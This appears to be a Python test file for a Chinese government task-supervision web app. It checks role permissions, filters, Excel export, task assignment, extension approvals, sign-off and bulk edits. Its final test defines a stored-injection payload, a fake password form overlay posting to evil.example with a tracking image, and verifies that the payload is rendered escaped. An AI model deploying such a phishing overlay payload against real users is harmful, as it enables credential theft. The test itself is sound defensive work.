"""AppTest of 任务台账: the office runs the register; the leader instructs; the inspector reads."""

import datetime as dt
import io

import polars as pl
from sqlmodel import Session, select

from duban.core import db
from duban.core.db import make_engine
from duban.core.permissions import Actor
from duban.tasks import manage, workflow
from models import (
    AppUser,
    Assignment,
    Department,
    ExtensionRequest,
    Instruction,
    Milestone,
    Target,
    Task,
)
from tests.apptest import errors, page_as, shown
from ui.tasks.bulk import bulk_key


def _db(url):
    return Session(make_engine(url))


def _actor(s, username) -> Actor:
    return Actor.of(s.exec(select(AppUser).where(AppUser.username == username)).one())


def _button(at, label):
    return next(b for b in at.button if b.label == label)


def _open(at, task_id):
    """Pick the task in the register: it opens on its own, at `?task=ID`."""
    at.selectbox(key="open_task").set_value(task_id).run()
    assert not at.exception, at.exception
    assert at.query_params["task"] in (str(task_id), [str(task_id)])
    return at


def _task_led_by(url, username, status) -> Task:
    with _db(url) as s:
        dept = _actor(s, username).department_id
        return s.exec(
            select(Task)
            .join(Assignment, Assignment.task_id == Task.id)
            .where(Assignment.department_id == dept, Assignment.role == "lead")
            .where(Task.status == status)
        ).first()


def test_each_role_sees_what_it_may_do(demo_db):
    task = _task_led_by(demo_db, "dept01", "in_progress")
    at = page_as("tasks", "office", "office")
    assert [x.label for x in at.tabs] == ["台账", "新建任务", "批量调整", "延期审批"]
    at = _open(at, task.id)
    assert not errors(at), errors(at)
    assert not at.tabs  # the task on its own: no register, no tabs above it
    assert "确定" in [b.label for b in at.button]  # status actions
    assert "编辑任务" in [e.label for e in at.expander]
    for user in ("leader", "inspector"):
        at = page_as("tasks", user, user)
        assert [x.label for x in at.tabs] == ["台账"]
        at = _open(at, task.id)
        assert not at.exception and not errors(at), errors(at)
        labels = [b.label for b in at.button]
        assert "确定" not in labels and "保存" not in labels
        assert "编辑任务" not in [e.label for e in at.expander]
        assert ("发送批示" in labels) == (user == "leader")
        assert shown([s.value for s in at.subheader][0]) == f"{task.code} {task.title}"


def test_filters_narrow_the_view_and_export_is_that_view(demo_db):
    at = page_as("tasks", "office", "office")
    total = len(at.dataframe[0].value)
    assert at.caption[0].value.startswith(f"共 {total} 项任务")
    at.multiselect(key="rf_colour").set_value(["red"]).run()
    red = at.dataframe[0].value
    assert 0 < len(red) < total
    assert red["colour"].str.contains("红").all()
    at.multiselect(key="rf_colour").set_value([]).run()
    at.text_input(key="rf_text").input("网上").run()
    view = at.dataframe[0].value
    assert 0 < len(view) < total
    assert view["title"].str.contains("网上").all()
    assert at.caption[0].value.startswith(f"共 {len(view)} 项任务")
    assert at.get("download_button")[0].label == "导出 Excel"
    at.text_input(key="rf_text").input("").run()
    start = dt.date.today() + dt.timedelta(days=30)
    at.date_input(key="rf_deadline").set_value((start, start + dt.timedelta(days=200))).run()
    dl = at.dataframe[0].value["deadline"]
    assert len(dl) and all(start <= d.date() <= start + dt.timedelta(days=200) for d in dl)


def test_export_holds_the_filtered_rows():
    """The bytes behind the button: the register's Excel export of a filtered frame."""
    from duban.tasks.register import export_excel

    view = pl.DataFrame(
        {
            "code": ["一(一)", "一(二)"],
            "title": ["甲", "乙"],
            "depth": [0, 1],
            "deadline": [dt.date(2026, 12, 1), dt.date(2026, 12, 2)],
        }
    )
    back = pl.read_excel(io.BytesIO(export_excel(view)), sheet_name="任务台账")
    assert back.columns == ["编号", "任务", "当前时限"]
    assert back["任务"].to_list() == ["甲", "　乙"]


def test_office_creates_and_assigns_a_task_that_reaches_the_units_desk(demo_db):
    with _db(demo_db) as s:
        dept01 = _actor(s, "dept01").department_id
        dept02 = _actor(s, "dept02").department_id
    at = page_as("tasks", "office", "office")
    fk = "new_new_0"
    at.text_input(key=f"{fk}_code").input("九(一)")
    at.text_input(key=f"{fk}_title").input("建立政务服务好差评回访制度")
    deadline = dt.date.today() + dt.timedelta(days=60)
    at.date_input(key=f"{fk}_deadline").set_value(deadline)
    at.selectbox(key=f"{fk}_lead").set_value(dept01)
    # lead and responsible at once: refused in Chinese, nothing written, the form keeps it all
    at.multiselect(key=f"{fk}_resp").set_value([dept01, dept02])
    at.session_state[f"{fk}_ms"] = {
        "edited_rows": {},
        "added_rows": [{"title": "制度印发", "due_date": str(deadline - dt.timedelta(days=20))}],
        "deleted_rows": [],
    }
    at.session_state[f"{fk}_tg"] = {
        "edited_rows": {},
        "added_rows": [
            {"text": "回访率", "baseline": 40, "target_value": 90, "direction": ">=", "unit": "%"}
        ],
        "deleted_rows": [],
    }
    _button(at, "保存并交办").click().run()
    assert any("牵头单位不能同时作为责任单位" in e for e in errors(at)), errors(at)
    assert at.text_input(key=f"{fk}_title").value == "建立政务服务好差评回访制度"
    with _db(demo_db) as s:
        assert s.exec(select(Task).where(Task.code == "九(一)")).first() is None
    at.multiselect(key=f"{fk}_resp").set_value([dept02])
    _button(at, "保存并交办").click().run()
    assert not at.exception and not errors(at), errors(at)
    assert any("已保存并交办" in s.value for s in at.success)
    with _db(demo_db) as s:
        task = s.exec(select(Task).where(Task.code == "九(一)")).one()
        assert task.status == "assigned" and task.original_deadline == deadline
        units = {
            a.department_id: a.role
            for a in s.exec(select(Assignment).where(Assignment.task_id == task.id)).all()
        }
        assert units == {dept01: "lead", dept02: "responsible"}
        assert [m.title for m in s.exec(select(Milestone).where(Milestone.task_id == task.id))] == [
            "制度印发"
        ]
        tg = s.exec(select(Target).where(Target.task_id == task.id)).one()
        assert (tg.text, tg.baseline, tg.target_value, tg.unit) == ("回访率", 40, 90, "%")
    desk = page_as("my_tasks", "dept01", "dept_head")
    to_ack = next(e for e in desk.expander if e.label.startswith("待签收"))
    assert "建立政务服务好差评回访制度" in " ".join(m.value for m in to_ack.markdown)


def test_office_decides_extension_requests(demo_db):
    with _db(demo_db) as s:
        req = s.exec(select(ExtensionRequest).where(ExtensionRequest.status == "pending")).first()
        task = s.get(Task, req.task_id)
        original, deadline = task.original_deadline, task.deadline
    at = page_as("tasks", "office", "office")
    _button(at, "不同意").click().run()
    assert any("不同意延期时请填写理由" in e for e in errors(at)), errors(at)
    new = req.requested_date + dt.timedelta(days=5)
    at.date_input(key=f"extq_extd_{req.id}").set_value(new)
    _button(at, "同意延期").click().run()
    assert not errors(at), errors(at)
    with _db(demo_db) as s:
        task = s.get(Task, req.task_id)
        assert task.deadline == new and task.original_deadline == original != new
        assert s.get(ExtensionRequest, req.id).previous_deadline == deadline
    assert any("没有待审批的延期申请" in i.value for i in at.info)
    # the office's switch for requests after the deadline sits on the same tab
    at.toggle(key="allow_late_0").set_value(True).run()
    at.button(key="allow_late_save").click().run()
    assert any("已保存延期申请规则" in s.value for s in at.success)
    with _db(demo_db) as s:
        assert workflow.workflow_settings(s)[0]["allow_late_extension_requests"] is True
    at = _open(page_as("tasks", "office", "office"), task.id)
    assert {m.label: m.value for m in at.metric}["延期次数"] == "1"


def test_office_sends_back_then_signs_off(demo_db):
    with _db(demo_db) as s:
        task = s.exec(select(Task).where(Task.status == "submitted")).first()
    at = _open(page_as("tasks", "office", "office"), task.id)
    at.radio(key="reg_act").set_value("task.send_back")
    _button(at, "确定").click().run()
    assert any("请填写退回重办的理由" in e for e in errors(at)), errors(at)
    at.text_area(key="reg_reason").input("佐证材料不全，请补充验收报告。")
    _button(at, "确定").click().run()
    assert not errors(at), errors(at)
    with _db(demo_db) as s:
        t2 = s.get(Task, task.id)
        assert t2.status == "in_progress" and t2.status_reason == "佐证材料不全，请补充验收报告。"
        lead = s.exec(
            select(Assignment).where(Assignment.task_id == task.id, Assignment.role == "lead")
        ).one()
        office = _actor(s, "office")
        workflow.submit_for_sign_off(
            s,
            actor=office,
            task_id=task.id,
            summary="已补充验收报告。",
            expected_version=t2.version,
            department_id=lead.department_id,
        )
    at.run()
    at.radio(key="reg_act").set_value("task.sign_off")
    _button(at, "确定").click().run()
    # 销号 without the tick does nothing
    assert any("须先勾选" in e for e in errors(at)), errors(at)
    with _db(demo_db) as s:
        assert s.get(Task, task.id).status == "submitted"
    at.checkbox(key="reg_confirm").check()
    _button(at, "确定").click().run()
    assert not errors(at), errors(at)
    with _db(demo_db) as s:
        t3 = s.get(Task, task.id)
        assert t3.status == "completed" and t3.completed_at is not None
    history = next(e for e in at.expander if e.label.startswith("操作记录"))
    actions = history.dataframe[0].value["操作"].to_list()
    assert actions[:3] == ["销号", "申请销号", "退回重办"], actions


def test_office_undoes_a_sign_off_with_a_reason_and_a_tick(demo_db):
    with _db(demo_db) as s:
        task = s.exec(select(Task).where(Task.status == "completed")).first()
    at = _open(page_as("tasks", "office", "office"), task.id)
    assert at.radio(key="reg_act").options == ["撤销销号，恢复办理"]
    at.text_area(key="reg_reason").input("复核发现系统尚未上线。")
    _button(at, "确定").click().run()
    assert any("须先勾选" in e for e in errors(at)), errors(at)
    with _db(demo_db) as s:
        assert s.get(Task, task.id).status == "completed"
    at.checkbox(key="reg_confirm").check()
    _button(at, "确定").click().run()
    assert not errors(at), errors(at)
    with _db(demo_db) as s:
        t2 = s.get(Task, task.id)
        assert t2.status == "in_progress" and t2.completed_at is None
        assert t2.status_reason == "复核发现系统尚未上线。"
    assert {m.label: m.value for m in at.metric}["状态"] == "推进中"
    history = next(e for e in at.expander if e.label.startswith("操作记录"))
    assert history.dataframe[0].value["操作"].to_list()[0] == "撤销销号"


def test_office_records_an_instruction_only_naming_a_leader(demo_db):
    task = _task_led_by(demo_db, "dept01", "in_progress")
    at = _open(page_as("tasks", "office", "office"), task.id)
    at.text_area(key="reg_instr_text").input("请市政务服务局牵头，月底前完成。")
    _button(at, "发送批示").click().run()
    assert any("请选择作出批示的领导" in e for e in errors(at)), errors(at)
    with _db(demo_db) as s:
        leader = s.exec(select(AppUser).where(AppUser.username == "leader")).one()
        office = s.exec(select(AppUser).where(AppUser.username == "office")).one()
    at.selectbox(key="reg_instr_leader").set_value(leader.id)
    _button(at, "发送批示").click().run()
    assert not errors(at), errors(at)
    with _db(demo_db) as s:
        ins = s.exec(
            select(Instruction).where(Instruction.text == "请市政务服务局牵头，月底前完成。")
        ).one()
        assert ins.on_behalf_of == leader.id and ins.author_id == office.id
    byline = f"{leader.display_name}批示（办公室{office.display_name}代录）"
    assert any(c.value.startswith(byline) for c in at.caption), [c.value for c in at.caption]


def test_leader_writes_an_instruction_the_units_must_answer(demo_db):
    task = _task_led_by(demo_db, "dept01", "in_progress")
    at = _open(page_as("tasks", "leader", "leader"), task.id)
    _button(at, "发送批示").click().run()
    assert any("请填写批示内容" in e for e in errors(at)), errors(at)
    at.text_area(key="reg_instr_text").input("此项是群众关注重点，务必按期完成。")
    _button(at, "发送批示").click().run()
    assert not errors(at), errors(at)
    with _db(demo_db) as s:
        ins = s.exec(select(Instruction).where(Instruction.task_id == task.id)).all()
        assert "此项是群众关注重点，务必按期完成。" in [i.text for i in ins]
    desk = page_as("my_tasks", "dept01", "dept_head")
    assert {m.label: m.value for m in desk.metric}["待回复批示"] == "1"
    # the unit reads whose 批示 it is answering
    desk.selectbox(key="my_open").set_value(task.id).run()
    assert not desk.exception
    with _db(demo_db) as s:
        leader = s.exec(select(AppUser).where(AppUser.username == "leader")).one()
    assert f"{leader.display_name}批示" in [c.value for c in desk.caption]


def test_a_stale_edit_is_refused_and_keeps_what_was_typed(demo_db):
    task = _task_led_by(demo_db, "dept01", "in_progress")
    at = _open(page_as("tasks", "office", "office"), task.id)
    fk = f"edit_{task.id}_{task.version}"
    at.text_input(key=f"{fk}_title").input("改过的标题")
    with _db(demo_db) as s:  # someone else moves the deadline meanwhile
        manage.update_task(
            s,
            actor=_actor(s, "office"),
            task_id=task.id,
            expected_version=task.version,
            deadline=task.deadline + dt.timedelta(days=3),
        )
    _button(at, "保存").click().run()
    assert any("已被他人修改" in e for e in errors(at)), errors(at)
    assert at.text_input(key=f"{fk}_title").value == "改过的标题"
    assert any("已被他人修改" in w.value for w in at.warning)
    with _db(demo_db) as s:
        assert s.get(Task, task.id).title == task.title
    _button(at, "载入最新").click().run()
    fk2 = f"edit_{task.id}_{task.version + 1}"
    assert at.date_input(key=f"{fk2}_deadline").value == task.deadline + dt.timedelta(days=3)
    at.text_input(key=f"{fk2}_title").input("改过的标题")
    _button(at, "保存").click().run()
    assert not errors(at), errors(at)
    with _db(demo_db) as s:
        assert s.get(Task, task.id).title == "改过的标题"


def test_bulk_edit_saves_through_the_service(demo_db):
    task = _task_led_by(demo_db, "dept01", "in_progress")
    other = _task_led_by(demo_db, "dept02", "in_progress")
    with _db(demo_db) as s:
        dept03 = _actor(s, "dept03").department_id
        dept03_name = s.get(Department, dept03).name
        before = {
            a.department_id
            for a in s.exec(select(Assignment).where(Assignment.task_id == other.id))
        }
    assert dept03 not in before
    at = page_as("tasks", "office", "office")
    version = db.data_version(make_engine(demo_db))
    shown = at.dataframe[0].value
    codes = shown["code"].to_list()
    new = task.deadline + dt.timedelta(days=10)
    resp = [n for n in shown["responsible_names"][codes.index(other.code)].split("、") if n]
    at.session_state[bulk_key(version, shown["task_id"])] = {
        "edited_rows": {
            codes.index(task.code): {"deadline": new.isoformat()},
            codes.index(other.code): {"resp": [*resp, dept03_name]},
        },
        "added_rows": [],
        "deleted_rows": [],
    }
    at.button(key="bulk_save").click().run()
    assert not errors(at), errors(at)
    assert any("已保存 2 项任务" in s.value for s in at.success)
    with _db(demo_db) as s:
        t2 = s.get(Task, task.id)
        assert t2.deadline == new and t2.original_deadline == task.original_deadline
        after = {
            a.department_id: a.role
            for a in s.exec(select(Assignment).where(Assignment.task_id == other.id))
        }
        assert set(after) == before | {dept03} and after[dept03] == "responsible"


def test_long_views_cap_the_picker_and_bulk_editor_but_not_the_table(demo_db, monkeypatch):
    """At large scale the picker and the bulk editor list the first rows of the view (with a
    note); the table keeps every row, and a task opened from it beyond the cap still opens."""
    from ui.tasks import bulk, table

    monkeypatch.setattr(table, "PICK_MAX", 3)
    monkeypatch.setattr(bulk, "BULK_MAX", 4)
    at = page_as("tasks", "office", "office")
    table = at.dataframe[0].value
    assert len(table) > 10
    assert len(at.selectbox(key="open_task").options) == 1 + 3
    notes = [c.value for c in at.caption]
    assert any(f"前 3 项（共 {len(table)} 项）" in n for n in notes), notes
    assert any(f"前 4 项（共 {len(table)} 项）" in n for n in notes), notes
    bulk = [d for d in at.dataframe if (d.key or "").startswith("bulk_")]
    assert len(bulk) == 1 and len(bulk[0].value) == 4  # the bulk editor: the first rows
    far = int(table["task_id"][10])
    at.query_params["task"] = str(far)  # as a click on that row of the table does
    at.run()
    assert not at.exception and not errors(at), errors(at)
    code = table["code"][10]
    assert shown([s.value for s in at.subheader][0]).startswith(code)


FAKE_LOGIN = (
    "<style>section[data-testid='stSidebar']{display:none}</style>"
    "<div style='position:fixed;inset:0'><form action='http://evil.example/'>"
    "会话已过期，请重新输入密码<input type=password></form></div>"
    "![](http://10.0.0.1/track.png) [点此](http://evil.example/)"
)


def test_a_units_answer_is_shown_as_typed_never_as_markup_on_the_leaders_screen(demo_db):
    """A unit once drew a fake password form over a leader's page through its answer to a 批示."""
    task = _task_led_by(demo_db, "dept01", "in_progress")
    with _db(demo_db) as s:
        ins = workflow.create_instruction(
            s, actor=_actor(s, "leader"), task_id=task.id, text="请说明进度"
        )
        workflow.answer_instruction(
            s, actor=_actor(s, "dept01"), instruction_id=ins.id, text=FAKE_LOGIN
        )
    at = _open(page_as("tasks", "leader", "leader"), task.id)
    shown = [m for m in at.markdown if "会话已过期" in m.value]
    assert shown, "the answer is on the page"
    for m in shown:
        assert not m.allow_html
        assert "<form" not in m.value and "<style" not in m.value
        assert "&lt;form" in m.value  # the text as typed, escaped
        assert "![](" not in m.value and "](http" not in m.value  # no image, no link
